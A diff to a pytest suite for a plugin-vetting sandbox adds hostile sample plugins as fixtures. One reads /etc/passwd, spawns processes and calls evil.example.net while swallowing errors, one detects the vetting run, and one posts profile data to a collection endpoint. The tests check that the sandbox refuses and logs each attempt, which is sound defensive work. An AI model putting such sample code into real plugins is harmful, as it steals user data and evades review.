@@ -126,7 +126,8 @@ def test_sandbox_refuses_writing_outside_the_scratch_dir(vet_ctx):
     if probe_sandbox_level().level == "dev-unsafe":
         pytest.skip("dev-unsafe confines no file system access")
     found = check_dynamic(vet_ctx(module_source=WRITES_FILE, sandbox=SANDBOX))
-    assert codes(found) == ["dynamic_permission_denied"], found
+    # refused, and counted as an attempt (the worker's audit hook saw the open)
+    assert codes(found) == ["dynamic_permission_denied", "dynamic_refused"], found
 
 
 @pytest.mark.parametrize("attack", sorted(ESCALATES))
@@ -135,7 +136,8 @@ def test_vetting_run_refuses_privilege_and_process_attacks(vet_ctx, attack):
         pytest.skip("dev-unsafe has no seccomp")
     found = check_dynamic(vet_ctx(module_source=ESCALATES_SOURCE.format(
         attack=ESCALATES[attack]), sandbox=SANDBOX))
-    assert codes(found) == ["dynamic_permission_denied"], found
+    assert codes(found)[0] == "dynamic_permission_denied", found
+    assert set(codes(found)) <= {"dynamic_permission_denied", "dynamic_refused"}, found
 
 
 def test_gear_that_cannot_load(vet_ctx):
@@ -157,3 +159,96 @@ def test_sandbox_unavailable_is_a_finding_not_a_pass(vet_ctx):
 def test_turned_off_is_reported_too(vet_ctx):
     (f,) = check_dynamic(vet_ctx(sandbox=SandboxOptions(enabled=False)))
     assert f.code == "sandbox_unavailable"
+
+
+SWALLOWS = '''
+import os
+import socket
+import subprocess
+from gears_sdk import hookimpl
+
+@hookimpl
+def gear_render(profile, content, config, ctx):
+    for attempt in (lambda: subprocess.run(["id"]),
+                    lambda: socket.create_connection(("203.0.113.9", 443), timeout=0.5),
+                    lambda: os.system("id"),
+                    lambda: open("/etc/passwd").read(),
+                    lambda: ctx.secrets.get("undeclared"),
+                    lambda: ctx.http.get("https://evil.example.net/x")):
+        try:
+            attempt()
+        except Exception:
+            pass
+    return {"html": "<p>all good</p>"}
+'''
+
+TELLS = '''
+from gears_sdk import hookimpl
+
+@hookimpl
+def gear_render(profile, content, config, ctx):
+    text = repr((ctx.workspace, ctx.installation, profile, content, config)).lower()
+    if "vet" in text or "test" in text:
+        raise RuntimeError("recognised the vetting run: " + text[:200])
+    return {"html": "<p>hi</p>"}
+'''
+
+CALLS_HOME = '''
+from gears_sdk import hookimpl
+
+@hookimpl
+def gear_render(profile, content, config, ctx):
+    ctx.http.post("http://{host}:{port}/collect", json={{"profile": profile}})
+    return {{"html": "<p>hi</p>"}}
+'''
+
+
+def test_refusals_are_counted_even_when_the_gear_swallows_them(vet_ctx):
+    found = list(check_dynamic(vet_ctx(module_source=SWALLOWS, sandbox=SANDBOX)))
+    by_code = {f.code: f for f in found}
+    assert "sandbox_ok" not in by_code, found
+    refused = by_code["dynamic_refused"]
+    assert refused.severity == "high"
+    for what in ("process", "socket", "open_outside"):
+        assert f"{what} x" in refused.message, refused.message
+    ctx_refused = by_code["dynamic_ctx_refused"].message
+    assert "secrets.get" in ctx_refused and "http.request" in ctx_refused
+    assert "evil.example.net" in ctx_refused
+
+
+def test_the_run_looks_like_a_workspace(vet_ctx):
+    found = list(check_dynamic(vet_ctx(module_source=TELLS, sandbox=SANDBOX)))
+    assert codes(found) == ["sandbox_ok"], found
+
+
+def test_no_request_leaves_the_host_whatever_the_operator_allows(vet_ctx, monkeypatch):
+    import http.server
+    import threading
+
+    hits: list[str] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_POST(self):  # noqa: N802
+            hits.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, *args):
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        monkeypatch.setenv("GEARS_HTTP_ALLOW_PRIVATE_HOSTS", "127.0.0.1")
+        port = server.server_address[1]
+        ctx = vet_ctx(module_source=CALLS_HOME.format(host="127.0.0.1", port=port),
+                      sandbox=SANDBOX, permissions={
+                          "network": [f"127.0.0.1:{port}"],
+                          "profile": {"read": ["attributes.first_name"], "write": []}})
+        found = list(check_dynamic(ctx))
+    finally:
+        server.shutdown()
+    assert hits == []
+    requests = [f for f in found if f.code == "dynamic_http_request"]
+    assert requests and "POST 127.0.0.1" in requests[0].message, found
+    assert requests[0].severity == "info"
